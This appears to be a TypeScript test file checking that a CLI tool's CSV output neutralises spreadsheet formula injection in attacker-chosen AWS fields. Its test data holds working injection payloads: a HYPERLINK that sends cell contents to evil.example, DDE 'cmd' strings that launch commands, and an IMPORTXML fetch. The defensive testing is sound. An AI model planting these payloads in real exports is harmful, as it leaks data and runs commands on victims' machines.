/**
 * CSV written by `run-md query --output FILE.csv` (and `run --output`) opened in a
 * spreadsheet. A userAgent (or any requestParameters text) is chosen by the caller of the AWS API:
 * a cell starting with `=`, `+`, `-`, `@` (or a tab / CR before one) is a formula to Excel, Google
 * Sheets and LibreOffice (`=HYPERLINK(...)` exfiltrates neighbouring cells when clicked,
 * `=WEBSERVICE`/`IMPORTXML` fetch on open in Sheets, DDE `=cmd|...` runs commands on old Excel).
 * OWASP: prefix such a text field with `'` (and quote it).
 */
import { mkdtemp, readFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import type { JsonValue, RowChunk } from "@run-md/core";
import { describe, expect, it } from "vitest";
import { ResultOutput } from "../src/output/result-output.ts";

const COLUMNS = [
  { name: "eventtime", type: "varchar" },
  { name: "useragent", type: "varchar" },
];

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?leak="&B3&B4,"Details: click to open the finding")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=IMPORTXML("https://evil.example/x","//a")',
];

function chunk(rows: JsonValue[][]): RowChunk {
  return { columns: COLUMNS, length: rows.length, rows: () => rows };
}

describe("CSV opened in a spreadsheet", () => {
  it("writes no text cell that a spreadsheet reads as a formula", async () => {
    const dir = await mkdtemp(path.join(tmpdir(), "run-md-s41-csv-"));
    const file = path.join(dir, "agents.csv");
    const out = await ResultOutput.toFile(file, "csv");
    await out.sink(chunk(HOSTILE.map((ua) => ["2026-11-24T01:45:00Z", ua])));
    await out.commit(COLUMNS.map((c) => c.name));
    const text = await readFile(file, "utf8");
    // The second field of each data line, quotes removed as a spreadsheet reads it.
    const cells = text
      .trimEnd()
      .split("\r\n")
      .slice(1)
      .map((line) => line.slice(line.indexOf(",") + 1).replace(/^"|"$/g, ""));
    const formulas = cells.filter((c) => /^[=+\-@\t\r]/.test(c));
    expect(formulas).toEqual([]);
    // The spreadsheet shows the value as it is: a quote before it marks text, nothing else moves.
    expect(cells.slice(1, 4)).toEqual(HOSTILE.slice(1, 4).map((v) => `'${v}`));
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&B3&B4,`);
  });
});
